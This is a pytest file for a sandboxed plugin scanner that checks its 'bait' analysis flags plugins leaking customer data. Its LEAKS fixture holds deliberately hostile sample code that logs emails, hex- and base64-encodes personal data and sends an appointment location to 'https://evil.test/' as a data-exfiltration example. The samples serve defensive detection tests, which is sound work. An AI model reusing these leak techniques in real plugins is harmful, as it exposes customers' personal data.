"""Plugins on bait, in the real sandbox: each way out with the finding it must get, and an honest one with none."""

import pytest

from rising_bsm.analysis import bait
from rising_bsm.analysis.apart import look_apart
from rising_bsm.analysis.everything import ALONE
from rising_bsm.analysis.finding import Finding
from rising_bsm.analysis.loaded import compile_code, load
from rising_bsm.analysis.names import Neighbour
from rising_bsm.analysis.scan import scan
from rising_bsm.analysis.source import source_of_bundle
from rising_bsm.bundle import open_unsigned
from rising_bsm.sandbox import Pool
from support.bundles import make_signed_bundle
from support.plugins import make_signed_plugin

pytestmark = pytest.mark.anyio

ASKED = ("customers.read", "appointments.read", "requests.read", "routes.public")
PLACE = {"url": "https://api.example.com/", "methods": ["POST"], "reason": "To tell it."}


async def found(pool: Pool, methods: str, **manifest: object) -> list[Finding]:
    """What bait finds alone."""
    data = await make_signed_plugin(pool, methods, permissions=ASKED, **manifest)  # type: ignore[arg-type] # the manifest's
    bundle = open_unsigned(data)
    code = await compile_code(pool, bundle.manifest, bundle.files)
    source = source_of_bundle(bundle.files)
    return await bait.run(pool, await load(pool, bundle.manifest, bundle.files, code), source)


def said(findings: list[Finding]) -> set[tuple[str, str, str | None]]:
    return {(one.severity, one.code, one.place) for one in findings}


HONEST = """
@before("customers.create")
def look(self, ctx, draft):
    ctx.storage.increment("seen")
    return draft
@after("appointments.update")
def done(self, ctx, event):
    ctx.log.info("done", version=event.after["version"])
@route("GET", "/customers/{id}")
def one(self, ctx, request):
    return ctx.customers.get(request.params["id"])
@route("GET", "/seen", public=True)
def seen(self, ctx, request):
    return ctx.storage.get("seen")
@route("POST", "/refuses")
def refuses(self, ctx, request):
    raise Refuse("Not like this.")
"""

LEAKS = """
@before("customers.create")
def look(self, ctx, draft):
    ctx.log.info("new customer " + draft["email"])
    ctx.storage.set("last", draft)
    return draft
@after("requests.create")
def told(self, ctx, event):
    print(event.after["message"].encode().hex())
@schedule("0 1 * * *")
def nightly(self, ctx):
    import base64
    name = ctx.customers.list()["items"][0]["name"]
    ctx.http.fetch("POST", "https://api.example.com/", body=base64.b64encode(name.encode()))
@route("GET", "/where/{appointment_id}")
def where(self, ctx, request):
    place = ctx.appointments.get(request.params["appointment_id"])["location"]
    ctx.batch([("http.fetch", {"method": "GET", "url": "https://evil.test/?q=" + place[::-1]})])
@route("GET", "/last", public=True)
def last(self, ctx, request):
    return {"hint": ctx.storage.get("last")["company"]}
@route("GET", "/refuses", public=True)
def refuses(self, ctx, request):
    raise Refuse(ctx.storage.get("last")["city"])
"""


async def test_an_honest_plugin_has_nothing_to_hide(pool: Pool) -> None:
    [fine] = await found(pool, HONEST)
    assert (fine.severity, fine.code) == ("ok", "bait")
    assert fine.message.startswith("5 calls")


async def test_every_way_out(pool: Pool) -> None:
    data = await make_signed_plugin(pool, LEAKS, permissions=ASKED, network=[PLACE])
    findings = [one for one in await scan(pool, data, ALONE) if one.code.startswith("bait")]
    assert said(findings) == {
        ("warning", "bait.logged", "before customers.create"),
        ("error", "bait.logged", "after requests.create"),
        ("error", "bait.sent", "schedule nightly"),
        ("error", "bait.sent", "GET /where/{appointment_id}"),
        ("error", "bait.shown", "GET /last"),
        ("error", "bait.shown", "GET /refuses"),
    }
    messages = " ".join(one.message for one in findings)
    for text in ("customers.email", "written as hex", "written as base64", "written as reversed", "customers.company"):
        assert text in messages
    assert "https://evil.test/" in messages


async def test_crashes_and_what_never_ends(pool: Pool) -> None:
    methods = """
    @schedule("0 1 * * *")
    def burns(self, ctx):
        while True: pass
    @route("GET", "/raises")
    def raises(self, ctx, request):
        return {}["nothing"]
    """
    findings = await found(pool, methods)
    assert said(findings) == {
        ("error", "bait.failed", "schedule burns"),
        ("warning", "bait.raised", "code/test_plugin.py:11"),
    }


async def test_a_run_is_bounded(pool: Pool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bait.run, "__kwdefaults__", {**bait.run.__kwdefaults__, "seconds": 0.0})
    assert said(await found(pool, HONEST)) == {("error", "bait.too_slow", None)}
    monkeypatch.undo()
    monkeypatch.setattr(bait, "MOST_CALLS", 2)
    assert said(await found(pool, HONEST)) == {("warning", "bait.not_all", None)}


async def test_a_class_that_answers_to_other_things_than_it_says(pool: Pool) -> None:
    none = {"routes": [], "before": [], "after": [], "schedules": [], "lifecycle": []}
    data = await make_signed_plugin(pool, HONEST, permissions=ASKED, exports_said=none)
    codes = {one.code for one in await scan(pool, data, ALONE) if one.severity == "error"}
    assert "exports.differ" in codes


async def test_code_that_does_not_load_is_a_finding(pool: Pool) -> None:
    files = {"code/acme_hello/__init__.py": b"1 / 0\n"}
    codes = {one.code for one in await scan(pool, make_signed_bundle(files=files), ALONE) if one.severity == "error"}
    assert "syntax" in codes


async def test_reading_code_is_bounded_and_apart(monkeypatch: pytest.MonkeyPatch) -> None:
    nested = b"x = " + b"(" * 150 + b"1" + b")" * 150 + b"\n" + b"-" * 90_000 + b"1\n"
    data = make_signed_bundle(files={"code/acme_hello/__init__.py": nested})
    assert (await look_apart(data, ALONE))[0].code != ""
    [gave_up] = await look_apart(data, ALONE, seconds=0.0)
    assert gave_up.code == "scan.gave_up"
    around = type(ALONE)([Neighbour("globex.hello", "Hello")])
    assert "names.close" in {one.code for one in await look_apart(make_signed_bundle(), around)}
